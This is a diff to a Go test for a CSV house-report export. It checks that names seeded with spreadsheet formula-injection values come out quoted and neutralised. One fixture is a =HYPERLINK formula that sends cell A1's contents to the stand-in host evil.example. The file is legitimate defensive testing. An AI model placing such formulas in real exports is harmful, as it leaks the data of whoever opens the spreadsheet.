@@ -77,8 +77,8 @@ func hostileNames(t testing.TB, app core.App) {
 	w := tk.Seeded(t)
 	setRecord("users", w.People[tk.ResidentA1].ID, map[string]any{"name": `=HYPERLINK("http://evil.example/?"&A1,"click")`})(t, app)
 	setRecord("users", w.People[tk.ResidentA2].ID, map[string]any{"name": "@SUM(1+1)"})(t, app)
-	setRecord("users", w.People[tk.AwayA].ID, map[string]any{"name": "\t-2+3"})(t, app)
-	setRecord("houses", w.HouseA, map[string]any{"name": "+Cedar, \"House\""})(t, app)
+	setRecord("users", w.People[tk.AwayA].ID, map[string]any{"name": "-2+3"})(t, app)
+	setRecord("houses", w.HouseA, map[string]any{"name": "\t+Cedar, \"House\""})(t, app)
 }
 
 // TestHouseReportCSV: every cell quoted, and one a spreadsheet would read
@@ -88,10 +88,10 @@ func TestHouseReportCSV(t *testing.T) {
 	url := "/api/hearth/houses/" + w.HouseA + "/report?" + reportWeek + "&format=csv"
 	c := pinnedCase{name: "hostile names", actor: tk.ManagerA, method: "GET", url: url, prepare: hostileNames, status: 200,
 		content: []string{
-			`"house","'+Cedar, ""House"""`,
+			"\"house\",\"'\t+Cedar, \"\"House\"\"\"",
 			`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")","active","","","7","1","7","0","0","1","0","3","0","0","0","0"`,
 			`"'@SUM(1+1)","active"`,
-			"\"'\t-2+3\",\"away\"",
+			`"'-2+3","away"`,
 			`"bed_nights","21"`,
 			`"occupancy_percent","60.0"`,
 		},
